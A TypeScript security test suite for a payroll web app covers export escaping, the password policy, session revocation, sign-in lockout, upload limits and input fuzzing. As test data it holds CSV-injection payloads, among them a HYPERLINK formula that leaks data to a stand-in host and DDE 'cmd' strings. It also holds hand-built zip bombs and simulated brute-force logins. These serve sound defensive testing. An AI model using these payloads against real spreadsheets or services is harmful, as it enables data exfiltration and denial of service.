/**
 * The security suite's second round, over real HTTP against the built web app (`next start`):
 * what an export, an upload, a password, a date, a session, a stranger's guesses and HR's view
 * of an employee can still do. Each is checked from the outside — the files with real
 * spreadsheet parsers (csv-parse, ExcelJS), the sign-in limits with real sockets from many
 * loopback addresses, the inputs of every tRPC procedure with generated values (fast-check).
 */
import { buildMonthExport } from '@beton/dashboard';
import { checkNewPassword } from '@beton/db/password-policy';
import { validateImport } from '@beton/people/import/run';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { deflateRawSync, crc32 } from 'node:zlib';
import superjson from 'superjson';
import { beforeAll, describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { employeeRows, toCsv, toXlsx } from '../../../scripts/lib/employee-file.ts';
import { appRouter } from '../src/server/root.ts';
import { webApiSuite } from './http-api.ts';
import { freshAddress } from './loopback.ts';

const INFLATE_LIMIT = 4_000_000;
const t = webApiSuite({
  env: {
    SIGN_IN_ACCOUNT_ATTEMPTS: '6',
    SIGN_IN_CLIENT_ATTEMPTS: '3',
    SIGN_IN_ACCOUNT_LOCK_SECONDS: '120',
    IMPORT_MAX_INFLATED_BYTES: String(INFLATE_LIMIT),
  },
});
const { signIn, signInRequest } = t;
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
let hrA: string;
let admin: string;

beforeAll(async () => {
  hrA = await signIn(t.fx.companies[0]!.hrEmail, t.fx.companies[0]!.hrPassword);
  admin = await signIn(t.fx.admin.email, t.fx.admin.password);
}, 60_000);

const url = (path: string) => `${t.web.url}${path}`;
const A = () => t.fx.companies[0]!;

/** A cell a spreadsheet program could take as a formula (OWASP CSV Injection's characters, and the full-width forms). */
// eslint-disable-next-line no-control-regex -- control characters are part of the rule
const FORMULA_START = /^[\s\u0000-\u001f]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\u0000]/;
const PAYLOADS = ['=HYPERLINK("https://evil.example/?leak="&A2,"Payslip")', '+SUM(1;2)', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\uFF1D1+1'];

function changePassword(cookie: string, body: Record<string, unknown>, headers: Record<string, string> = {}): Promise<Response> {
  return fetch(url('/api/auth/change-password'), {
    method: 'POST',
    headers: { cookie, origin: t.web.url, 'content-type': 'application/json', ...headers },
    body: JSON.stringify(body),
  });
}

const me = (cookie: string) => fetch(url('/api/trpc/auth.me'), { headers: { cookie } });

/** A new HR user of company A with a one-time password (as an admin makes one), signed in: [email, password, cookie]. */
async function newHr(email: string, name = 'Round Two HR'): Promise<{ email: string; password: string }> {
  const created = await t.client(admin).admin.createUser.mutate({ email, name, role: 'HR', companyId: A().id });
  return { email, password: created.oneTimePassword };
}

describe('1 · exports that a spreadsheet cannot execute', () => {
  it('employee names that are formulas come out of every export as text: CSV (csv-parse), XLSX (ExcelJS and its XML), the ZIP list, the import report', async () => {
    const hr = t.client(hrA);
    // Names as an attacker would give them through the employee form.
    const ids = A().employeeIds.slice(0, PAYLOADS.length);
    for (const [i, id] of ids.entries()) {
      const r = await hr.people.record.query({ id });
      await hr.people.update.mutate({
        id,
        details: { nameLatin: PAYLOADS[i]!, nameBengali: `=১+১ ${r.nameBengali}`, email: r.email, bankAccount: r.bankAccount },
      });
    }
    const files: Record<string, Buffer> = {};
    for (const kind of ['register-csv', 'register-xlsx', 'slips-zip'] as const) {
      const { export: e } = await hr.months.requestExport.mutate({ month: t.fx.month, kind });
      await buildMonthExport(t.fx.pool, e.id); // as the worker's job does
      const res = await fetch(url(`/api/exports/${e.id}`), { headers: { cookie: hrA } });
      expect(res.status).toBe(200);
      files[kind] = Buffer.from(await res.arrayBuffer());
    }

    // CSV: every cell as a spreadsheet reads it; only the money columns may start with a minus, and then they are plain numbers.
    const csv = csvRows(files['register-csv']!);
    const header = csv[0]!;
    const money = new Set([
      'Basic',
      'House rent',
      'Medical',
      'Conveyance',
      'Gross',
      'Income tax',
      'Provident fund',
      'Deductions',
      'Net pay',
      'Transferred amount',
    ]);
    for (const row of csv.slice(1)) {
      for (const [i, cell] of row.entries()) {
        if (money.has(header[i]!)) expect(cell).toMatch(/^(-?\d+\.\d{2})?$/);
        else expect(cell, `${header[i]}: ${cell}`).not.toMatch(FORMULA_START);
      }
    }
    const names = csv.slice(1).map((r) => r[1]);
    for (const p of PAYLOADS) expect(names).toContain(`'${p}`); // kept, as text
    // The raw file quotes every text field (a separator inside cannot start a new cell).
    expect(files['register-csv']!.toString('utf8')).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A2,""Payslip"")"`);

    // XLSX: no cell is a formula (ExcelJS), the payloads are text, and the sheet's XML has no <f> at all.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(files['register-xlsx']! as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const texts: string[] = [];
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeUndefined();
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    );
    for (const p of PAYLOADS) expect(texts).toContain(p);
    const sheetXml = await zipEntry(files['register-xlsx']!, 'xl/worksheets/sheet1.xml');
    expect(sheetXml).not.toMatch(/<f[ >]/);
    // The formula-like text cells carry the quote-prefix text style (kept text when edited).
    const styles = await zipEntry(files['register-xlsx']!, 'xl/styles.xml');
    expect(styles).toMatch(/<xf numFmtId="49"[^>]*quotePrefix="1"\/>/);
    expect(sheetXml).toMatch(/<c r="B\d+" s="3" t="inlineStr"><is><t>=HYPERLINK/);

    // The slips ZIP's list of missing slips (tab-separated text a spreadsheet may open).
    const missing = (await zipEntry(files['slips-zip']!, 'MISSING-SLIPS.txt')).split('\n').slice(1).filter(Boolean);
    expect(missing.length).toBeGreaterThan(0);
    for (const line of missing) for (const cell of line.split('\t')) expect(cell).not.toMatch(FORMULA_START);
    expect(missing.some((l) => l.includes(`'${PAYLOADS[1]}`))).toBe(true); // the first employee has a stored slip

    // An import's error report (CSV) read back with csv-parse.
    const bad = employeeRows(3, { broken: { 1: { name_latin: '=1+1', email: '@evil' } } });
    const up = await fetch(url('/api/imports?filename=x.csv&month=2026-12'), {
      method: 'POST',
      headers: { cookie: hrA, origin: t.web.url, 'content-type': 'text/csv' },
      body: new Uint8Array(toCsv(bad)),
    });
    const { id } = (await up.json()) as { id: string };
    await validateImport(t.fx.pool, id);
    const report = csvRows(Buffer.from(await (await fetch(url(`/api/imports/${id}/errors`), { headers: { cookie: hrA } })).arrayBuffer()));
    expect(report.length).toBeGreaterThan(1);
    for (const row of report) for (const cell of row.slice(1)) expect(cell).not.toMatch(FORMULA_START);
  }, 60_000);
});

describe('2 · passwords that a list would guess are refused, in the user’s language', () => {
  it('common, repeated, sequential, keyboard and the user’s own words: 400 naming the reason; nothing changes', async () => {
    const user = await newHr('rahima.khatun@example.com', 'Rahima Khatun');
    const cookie = await signIn(user.email, user.password);
    const hash = async () =>
      (await t.fx.pool.query(`select a.password from accounts a join users u on u.id = a.user_id where u.email = $1`, [user.email])).rows[0].password;
    const before = await hash();
    const cases: Array<[string, string]> = [
      ['password1234', 'common'],
      ['123456789012', 'common'],
      ['aaaaaaaaaaaa', 'repeated'],
      ['qwertyuiop12', 'common'],
      ['abcdefghijklmn', 'sequential'],
      ['rahima.khatun@example.com', 'context'],
      ['RahimaKhatun2026!', 'context'],
      ['beton-payroll-2026', 'context'],
    ];
    for (const [password, reason] of cases) {
      const res = await changePassword(cookie, { currentPassword: user.password, newPassword: password });
      const body = (await res.json()) as { code: string; reason: string; field: string; message: string };
      expect([res.status, body.code, body.field, body.reason], password).toEqual([400, 'PASSWORD_REFUSED', 'newPassword', reason]);
      expect(body.message).toMatch(/^[A-Z][a-z]/);
    }
    // In Bengali for a Bengali reader (the language cookie), the same refusal.
    const bn = await changePassword(cookie, { currentPassword: user.password, newPassword: 'password1234' }, { cookie: `${cookie}; beton-locale=bn` });
    expect(bn.status).toBe(400);
    expect(((await bn.json()) as { message: string }).message).toMatch(/[\u0980-\u09FF]/);
    expect(await hash()).toBe(before);
    expect((await me(cookie)).status).toBe(200); // nothing was revoked either
    // A long phrase of unrelated words is fine.
    expect((await changePassword(cookie, { currentPassword: user.password, newPassword: 'lantern orbit meadow quietly' })).status).toBe(200);
  });

  it('one-time passwords an admin makes pass the same rule, with the new user’s own words', async () => {
    for (let i = 0; i < 3; i++) {
      const { email, password } = await newHr(`otp.check.${i}@example.com`);
      expect(password).toMatch(/^[A-Za-z0-9]{16}$/);
      expect(await checkNewPassword(password, { email, name: 'Round Two HR', company: A().name })).toEqual({ ok: true });
    }
  });
});

describe('5 · a password change ends the other sessions on the server', () => {
  it('whatever the client asks: every other session and the one that asked end; the fresh one works', async () => {
    const user = await newHr('sessions.hr@example.com');
    const otpOne = await signIn(user.email, user.password);
    const otpTwo = await signIn(user.email, user.password);
    // The one-time password's change: every session ends, the one that changed it included.
    const first = await changePassword(otpOne, { currentPassword: user.password, newPassword: 'copper kettle violin harbour' });
    expect(first.status).toBe(200);
    const fresh = first.headers
      .getSetCookie()
      .find((c) => c.startsWith('beton.session_token='))!
      .split(';')[0]!;
    expect((await me(otpOne)).status).toBe(401);
    expect((await me(otpTwo)).status).toBe(401);
    expect((await me(fresh)).status).toBe(200);

    // A later change where the client asks to keep the other sessions: they end all the same.
    const laptop = await signIn(user.email, 'copper kettle violin harbour');
    const res = await changePassword(fresh, {
      currentPassword: 'copper kettle violin harbour',
      newPassword: 'granite pelican sunrise album',
      revokeOtherSessions: false,
    });
    expect(res.status).toBe(200);
    const newest = res.headers
      .getSetCookie()
      .find((c) => c.startsWith('beton.session_token='))!
      .split(';')[0]!;
    expect((await me(laptop)).status).toBe(401);
    expect((await me(fresh)).status).toBe(401);
    expect((await me(newest)).status).toBe(200);
    const { rows } = await t.fx.pool.query(
      `select count(*)::int as n from sessions s join users u on u.id = s.user_id where u.email = $1 and s.expires_at > now()`,
      [user.email],
    );
    expect(rows[0].n).toBe(1);
  });
});

describe('6 · a lockout a stranger cannot aim (device cookies)', () => {
  it("a stranger's failures from many addresses lock unknown devices out; the owner's known device signs in at once; a forged cookie is no device", async () => {
    const owner = t.fx.companies[2]!;
    // The owner signs in once from their laptop: it becomes a known device.
    const first = await signInRequest(owner.hrEmail, owner.hrPassword, {}, freshAddress());
    expect(first.status).toBe(200);
    const device = first.headers
      .getSetCookie()
      .find((c) => c.startsWith('beton-device='))!
      .split(';')[0]!;
    // A stranger guesses from ten addresses (a botnet): the account is slowed for unknown devices.
    const guesses: number[] = [];
    for (let i = 0; i < 10; i++) guesses.push((await signInRequest(owner.hrEmail, `guess-${i}`, {}, freshAddress())).status);
    expect(guesses.slice(0, 6)).toEqual([401, 401, 401, 401, 401, 401]);
    expect(guesses.slice(6)).toEqual([429, 429, 429, 429]);
    // A new device with the right password is refused too...
    const newDevice = await signInRequest(owner.hrEmail, owner.hrPassword, {}, freshAddress());
    expect(newDevice.status).toBe(429);
    expect(Number(newDevice.headers.get('retry-after'))).toBeGreaterThan(0);
    // ...and so is a forged device cookie, and the owner's cookie for another account.
    const forged = device.replace(/.$/, (c) => (c === 'A' ? 'B' : 'A'));
    expect((await signInRequest(owner.hrEmail, owner.hrPassword, { cookie: forged }, freshAddress())).status).toBe(429);
    const otherAccount = (await signInRequest(t.fx.companies[1]!.hrEmail, t.fx.companies[1]!.hrPassword, {}, freshAddress())).headers
      .getSetCookie()
      .find((c) => c.startsWith('beton-device='))!
      .split(';')[0]!;
    expect((await signInRequest(owner.hrEmail, owner.hrPassword, { cookie: otherAccount }, freshAddress())).status).toBe(429);
    // The owner on the known device: signed in at once.
    const known = await signInRequest(owner.hrEmail, owner.hrPassword, { cookie: device }, freshAddress());
    expect(known.status).toBe(200);
    expect(known.headers.getSetCookie().some((c) => c.startsWith('beton.session_token='))).toBe(true);

    // A known device is held to its own count: three wrong passwords on it, then it waits (the others do not move it).
    const again = known.headers
      .getSetCookie()
      .find((c) => c.startsWith('beton-device='))!
      .split(';')[0]!;
    const own: number[] = [];
    for (let i = 0; i < 4; i++) own.push((await signInRequest(owner.hrEmail, `typo-${i}`, { cookie: again }, freshAddress())).status);
    expect(own).toEqual([401, 401, 401, 429]);
  });

  it('one client (an address) is throttled on its own before the account is: another address still gets its tries', async () => {
    const victim = t.fx.admin;
    const from = freshAddress();
    const mine: number[] = [];
    for (let i = 0; i < 4; i++) mine.push((await signInRequest(victim.email, `wrong-${i}`, {}, from)).status);
    expect(mine).toEqual([401, 401, 401, 429]);
    // The per-(account, address) throttle held that client; the account (6 for unknown devices) still lets another address try.
    expect((await signInRequest(victim.email, victim.password, {}, freshAddress())).status).toBe(200);
  });
});

describe('3 · uploads bounded by what they inflate to', () => {
  async function upload(body: Buffer, type = XLSX_TYPE): Promise<Response> {
    return fetch(url(`/api/imports?filename=bomb.xlsx&month=2026-12`), {
      method: 'POST',
      headers: { cookie: hrA, origin: t.web.url, 'content-type': type },
      body: new Uint8Array(body),
    });
  }

  it('a zip bomb whose directory says what it unpacks to: refused at upload with 413 and the reason; nothing stored', async () => {
    const bomb = await xlsxWithSheet(hugeSheet(INFLATE_LIMIT + 1_000_000));
    expect(bomb.length).toBeLessThan(200_000);
    const before = (await t.fx.pool.query(`select count(*)::int as n from employee_imports`)).rows[0].n;
    const res = await upload(bomb);
    expect(res.status).toBe(413);
    expect(await res.json()).toMatchObject({
      error: { code: 'PAYLOAD_TOO_LARGE', reason: 'file.inflatesTooMuch', message: expect.stringMatching(/unpacks to/) },
    });
    expect((await t.fx.pool.query(`select count(*)::int as n from employee_imports`)).rows[0].n).toBe(before);
  });

  it('a zip bomb whose directory lies: stored, then its import fails with a reason HR reads, before any row is read', async () => {
    const bomb = await xlsxWithSheet(hugeSheet(INFLATE_LIMIT * 3), { declare: 2_000 });
    const res = await upload(bomb);
    expect(res.status).toBe(201);
    const { id } = (await res.json()) as { id: string };
    expect(await validateImport(t.fx.pool, id, { limits: { maxInflatedBytes: INFLATE_LIMIT, maxRows: 60_000 } })).toMatchObject({
      status: 'failed',
      done: true,
    });
    const view = await t.client(hrA).imports.get.query({ id });
    expect(view).toMatchObject({ status: 'failed', failureReason: 'file.inflatesTooMuch', counts: { new: 0, errors: 0 } });
    expect((await t.fx.pool.query(`select count(*)::int as n from employee_import_rows where import_id = $1`, [id])).rows[0].n).toBe(0);
  });

  it('a file with more rows than the limit: counted while read, the import fails with the reason, nothing half-imported', async () => {
    const res = await upload(toCsv(employeeRows(1_201)), 'text/csv');
    const { id } = (await res.json()) as { id: string };
    expect(await validateImport(t.fx.pool, id, { limits: { maxInflatedBytes: INFLATE_LIMIT, maxRows: 1_200 } })).toMatchObject({ status: 'failed' });
    const view = await t.client(hrA).imports.get.query({ id });
    expect(view).toMatchObject({ status: 'failed', failureReason: 'file.tooManyRows', failure: expect.stringMatching(/more than 1,200 data rows/) });
    expect((await t.fx.pool.query(`select count(*)::int as n from employees where code like 'IMP-%' and company_id = $1`, [A().id])).rows[0].n).toBe(0);
  });

  it('a large file is read once: the parts after the first continue from their checkpoint even when the file is gone', async () => {
    const res = await upload(await toXlsx(employeeRows(2_500, { raise: 7 })));
    const { id } = (await res.json()) as { id: string };
    // The first part reads the file and checks one batch; then the stored file is replaced by garbage.
    expect(await validateImport(t.fx.pool, id, { budgetMs: 0 })).toMatchObject({ status: 'validating', done: false });
    await t.fx.pool.query(`update employee_imports set content = 'not a file any more' where id = $1`, [id]);
    let parts = 1;
    for (;;) {
      parts++;
      const r = await validateImport(t.fx.pool, id, { budgetMs: 0 });
      if (r.done) break;
    }
    expect(parts).toBeGreaterThanOrEqual(3);
    expect(await t.client(hrA).imports.get.query({ id })).toMatchObject({ status: 'validated', rowsTotal: 2_500, counts: { errors: 0 } });
  });
});

describe('7 · slip protection that is a secret', () => {
  it('by default a protected slip opens with a random slip code HR sees once; the date of birth only as the company’s explicit, weaker choice', async () => {
    const hr = t.client(hrA);
    const id = A().employeeIds[5]!;
    expect((await hr.company.get.query()).slipPassword).toBe('code');
    expect(await hr.slipCode.get.query({ id })).toMatchObject({ set: false, slipPassword: 'code' });
    const made = await hr.slipCode.make.mutate({ id });
    expect(made.code).toMatch(/^[A-Z0-9]{4}-[A-Z0-9]{4}-[A-Z0-9]{4}$/);
    const again = await hr.slipCode.make.mutate({ id });
    expect(again.code).not.toBe(made.code);
    // Never answered again: not by the status, not by the employee's record or page data.
    for (const path of ['slipCode.get', 'people.record', 'employees.get', 'dateOfBirth.get']) {
      const text = await (
        await fetch(url(`/api/trpc/${path}?input=${encodeURIComponent(JSON.stringify(superjson.serialize({ id })))}`), { headers: { cookie: hrA } })
      ).text();
      expect(text, path).not.toContain(again.code);
    }
    expect(await hr.slipCode.get.query({ id })).toMatchObject({ set: true, setAt: expect.any(Date) });
    const audit = await t.fx.pool.query(`select details::text as d from audit_log where action = 'make-slip-code' order by id`);
    expect(audit.rows).toHaveLength(2);
    expect(audit.rows.map((r) => r.d).join()).not.toContain(again.code);
    // Nothing personal derives it: every employee's code differs, whatever they share.
    const others = A().employeeIds.slice(10, 30);
    const codes = new Set<string>();
    for (const e of others) codes.add((await hr.slipCode.make.mutate({ id: e })).code);
    expect(codes.size).toBe(others.length);
    // The weaker choice is explicit, audited, and the settings say so.
    expect(await hr.company.setSlipPassword.mutate({ slipPassword: 'date-of-birth' })).toMatchObject({ slipPassword: 'date-of-birth' });
    expect((await t.fx.pool.query(`select details from audit_log where action = 'set-slip-password'`)).rows).toEqual([
      { details: { companyId: A().id, slipPassword: 'date-of-birth', before: 'code' } },
    ]);
    await hr.company.setSlipPassword.mutate({ slipPassword: 'code' });
    // Another company's employee: not found.
    await expect(hr.slipCode.make.mutate({ id: t.fx.companies[1]!.employeeIds[0]! })).rejects.toMatchObject({ data: { code: 'NOT_FOUND' } });
  });
});

describe('8 · least disclosure to HR', () => {
  it("an employee's slip history names no worker and no raw error; new employees' ids are not a sequence", async () => {
    const id = A().employeeIds[3]!;
    // An attempt swept from a worker that stopped, as the engine writes it.
    await t.fx.pool.query(
      `update job_attempts set worker_id = 'web-7f9c:4242:send-email', error_code = 'worker_lost', error_message = 'recovered by the stuck-job sweeper: worker web-7f9c:4242:send-email stopped while holding the job'
       where job_id in (select id from jobs where employee_id = $1)`,
      [id],
    );
    await t.fx.pool.query(`update jobs set last_error = 'recovered: worker web-7f9c:4242:send-email stopped' where employee_id = $1`, [id]);
    const res = await fetch(url(`/api/trpc/employees.get?input=${encodeURIComponent(JSON.stringify(superjson.serialize({ id })))}`), {
      headers: { cookie: hrA },
    });
    const text = await res.text();
    expect(res.status).toBe(200);
    expect(text).not.toMatch(/web-7f9c|4242|workerId|w-test/);
    expect(text).toMatch(/worker_lost/); // the step's reason, which the page says in words

    const hr = t.client(hrA);
    const made: number[] = [];
    for (let i = 0; i < 5; i++) {
      const { id: newId } = await hr.people.create.mutate({
        employee: {
          code: `RND-${i}`,
          nameLatin: `Random ${i}`,
          nameBengali: 'কর্মী',
          email: `random.${i}@example.com`,
          bankAccount: '101-2223334445',
          effectiveMonth: '2026-12',
          salary: { basic: '30000', houseRent: '0', medical: '0', conveyance: '0', tax: '0', providentFund: '0' },
        },
      });
      made.push(newId);
    }
    const gaps = made.slice(1).map((n, i) => Math.abs(n - made[i]!));
    expect(Math.min(...gaps)).toBeGreaterThan(1_000); // five in a row, no two neighbours
    // The page of one answers; an id nobody has answers 404 cleanly (old links of existing employees keep working).
    expect((await fetch(url(`/employees/${made[0]}`), { headers: { cookie: hrA } })).status).toBe(200);
    expect((await fetch(url(`/employees/${A().employeeIds[0]}`), { headers: { cookie: hrA } })).status).toBe(200);
    await expect(hr.employees.get.query({ id: 2_147_483_000 })).rejects.toMatchObject({ data: { code: 'NOT_FOUND' } });
  });
});

describe('4 · one date type, and no input answers 500', () => {
  it('an impossible day in the failed-jobs filter is a 400 naming the field', async () => {
    for (const fromDay of ['2026-02-31', '2026-04-31', '2026-13-01', '0000-01-01', '2026-2-1']) {
      const res = await fetch(url(`/api/trpc/admin.failedList?input=${encodeURIComponent(JSON.stringify(superjson.serialize({ fromDay })))}`), {
        headers: { cookie: admin },
      });
      const text = await res.text();
      expect(res.status, text).toBe(400);
      expect(text).toContain('fromDay');
      expect(text).toMatch(/a day looks like 2026-11-30/);
    }
    const month = await fetch(url(`/api/trpc/months.get?input=${encodeURIComponent(JSON.stringify(superjson.serialize({ month: '2026-13' })))}`), {
      headers: { cookie: hrA },
    });
    expect(month.status).toBe(400);
  });

  it('every procedure, given generated inputs (fast-check over its zod schema, and anything at all), answers below 500', async () => {
    const procedures = appRouter._def.procedures as unknown as Record<string, { _def: { type: 'query' | 'mutation'; inputs: unknown[] } }>;
    const seen: Record<number, number> = {};
    for (const [path, proc] of Object.entries(procedures)) {
      const schema = proc._def.inputs[0];
      const input = fc.oneof({ weight: 3, arbitrary: schema ? arbitraryOf(schema) : fc.constant(undefined) }, { weight: 1, arbitrary: fc.anything() });
      const cookie = path.startsWith('admin.') ? admin : hrA;
      await fc.assert(
        fc.asyncProperty(input, async (value) => {
          const body = JSON.stringify(superjson.serialize(value));
          const res =
            proc._def.type === 'query'
              ? await fetch(url(`/api/trpc/${path}?input=${encodeURIComponent(body)}`), { headers: { cookie } })
              : await fetch(url(`/api/trpc/${path}`), { method: 'POST', headers: { cookie, origin: t.web.url, 'content-type': 'application/json' }, body });
          seen[res.status] = (seen[res.status] ?? 0) + 1;
          const text = await res.text();
          if (res.status >= 500) throw new Error(`${path} answered ${res.status} to ${body.slice(0, 300)}: ${text.slice(0, 300)}`);
        }),
        { numRuns: 12, seed: 20261206 },
      );
    }
    // Both kinds of answer were met: refusals and successes.
    expect(seen[400]).toBeGreaterThan(50);
    expect(seen[200]).toBeGreaterThan(20);
  }, 240_000);
});

// ---- helpers ----------------------------------------------------------------------------------

/** A CSV file's rows as a spreadsheet would read its cells (csv-parse, the byte-order mark skipped). */
function csvRows(file: Buffer): string[][] {
  return parseCsv(file, { bom: true });
}

type ZodLike = { _zod: { def: Record<string, unknown> & { type: string } } };

/** Strings that reach the checks behind a schema: random text, dates and months right and wrong, ids, addresses, edge cases. */
const strings = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.stringMatching(/^\d{4}-\d{2}-\d{2}$/),
  fc.stringMatching(/^\d{4}-\d{2}$/),
  fc.uuid(),
  fc.emailAddress(),
  fc.constantFrom(
    '2026-02-31',
    '2026-02-29',
    '2024-02-29',
    '2026-11',
    '2026-13',
    '0000-01',
    '9999-12-31',
    '',
    ' ',
    'x'.repeat(400),
    '\u0000',
    'ঀ',
    '%00',
    '../..',
  ),
);
const numbers = fc.oneof(fc.integer({ min: -10, max: 10 }), fc.integer(), fc.double(), fc.constantFrom(0, 2 ** 31, 2 ** 53, -0, 1e308));

/** A fast-check arbitrary of values shaped like a zod 4 schema's input (and often just outside it). */
function arbitraryOf(schema: unknown, depth = 0): fc.Arbitrary<unknown> {
  const def = (schema as ZodLike)._zod.def;
  if (depth > 6) return fc.constant(undefined);
  const inner = (key: string) => arbitraryOf(def[key], depth + 1);
  switch (def.type) {
    case 'object': {
      const shape = def.shape as Record<string, unknown>;
      return fc.record(Object.fromEntries(Object.entries(shape).map(([k, v]) => [k, arbitraryOf(v, depth + 1)])), {
        requiredKeys: Object.keys(shape).slice(0, 1),
      });
    }
    case 'string':
      return strings;
    case 'number':
    case 'bigint':
      return numbers;
    case 'boolean':
      return fc.boolean();
    case 'date':
      return fc.date();
    case 'enum':
      return fc.oneof(fc.constantFrom(...Object.values(def.entries as Record<string, string>)), strings);
    case 'literal':
      return fc.constantFrom(...(def.values as unknown[]));
    case 'optional':
    case 'default':
    case 'prefault':
      return fc.option(inner('innerType'), { nil: undefined });
    case 'nullable':
      return fc.option(inner('innerType'), { nil: null });
    case 'array':
      return fc.array(inner('element'), { maxLength: 4 });
    case 'union':
      return fc.oneof(...(def.options as unknown[]).map((o) => arbitraryOf(o, depth + 1)));
    case 'pipe':
      return inner('in');
    default:
      return fc.anything();
  }
}

/** An entry of a ZIP, as text (yauzl: the reader the uploads are checked with is not the one that wrote the file). */
async function zipEntry(zip: Buffer, name: string): Promise<string> {
  const file = await new Promise<yauzl.ZipFile>((resolve, reject) => yauzl.fromBuffer(zip, { lazyEntries: true }, (e, z) => (e ? reject(e) : resolve(z))));
  return new Promise((resolve, reject) => {
    file.on('entry', (entry: yauzl.Entry) => {
      if (entry.fileName !== name) return file.readEntry();
      file.openReadStream(entry, (error, stream) => {
        if (error) return reject(error);
        const chunks: Buffer[] = [];
        stream.on('data', (c: Buffer) => chunks.push(c));
        stream.on('end', () => {
          file.close();
          resolve(Buffer.concat(chunks).toString('utf8'));
        });
      });
    });
    file.on('end', () => reject(new Error(`${name} not in the ZIP`)));
    file.readEntry();
  });
}

/** Sheet XML of about `bytes` bytes: the same small row again and again (it deflates ~1000:1). */
function hugeSheet(bytes: number): Buffer {
  const head = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
  const row = '<row><c t="inlineStr"><is><t>x</t></is></c></row>';
  return Buffer.from(head + row.repeat(Math.ceil(bytes / row.length)) + '</sheetData></worksheet>');
}

/**
 * A real workbook (ExcelJS) whose sheet is replaced by `sheet`, written as a ZIP by hand: the
 * sheet deflated, its central directory entry declaring `declare` bytes when given (a ZIP that
 * lies about what it unpacks to), the true size otherwise.
 */
async function xlsxWithSheet(sheet: Buffer, { declare }: { declare?: number } = {}): Promise<Buffer> {
  const base = await toXlsx(employeeRows(1));
  const entries: Array<{ name: string; data: Buffer }> = [];
  const file = await new Promise<yauzl.ZipFile>((resolve, reject) => yauzl.fromBuffer(base, { lazyEntries: true }, (e, z) => (e ? reject(e) : resolve(z))));
  await new Promise<void>((resolve, reject) => {
    file.on('entry', (entry: yauzl.Entry) =>
      file.openReadStream(entry, (error, stream) => {
        if (error) return reject(error);
        const chunks: Buffer[] = [];
        stream.on('data', (c: Buffer) => chunks.push(c));
        stream.on('end', () => {
          entries.push({ name: entry.fileName, data: entry.fileName === 'xl/worksheets/sheet1.xml' ? sheet : Buffer.concat(chunks) });
          file.readEntry();
        });
      }),
    );
    file.on('end', () => resolve());
    file.readEntry();
  });
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const { name, data } of entries) {
    const packed = deflateRawSync(data, { level: 9 });
    const size = name === 'xl/worksheets/sheet1.xml' && declare !== undefined ? declare : data.length;
    const n = Buffer.from(name);
    const h = Buffer.alloc(30);
    h.writeUInt32LE(0x04034b50, 0);
    h.writeUInt16LE(20, 4);
    h.writeUInt16LE(8, 8);
    h.writeUInt32LE(crc32(data), 14);
    h.writeUInt32LE(packed.length, 18);
    h.writeUInt32LE(size, 22);
    h.writeUInt16LE(n.length, 26);
    local.push(h, n, packed);
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(20, 4);
    c.writeUInt16LE(20, 6);
    c.writeUInt16LE(8, 10);
    c.writeUInt32LE(crc32(data), 16);
    c.writeUInt32LE(packed.length, 20);
    c.writeUInt32LE(size, 24);
    c.writeUInt16LE(n.length, 28);
    c.writeUInt32LE(offset, 42);
    central.push(c, n);
    offset += 30 + n.length + packed.length;
  }
  const dir = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(dir.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, dir, end]);
}
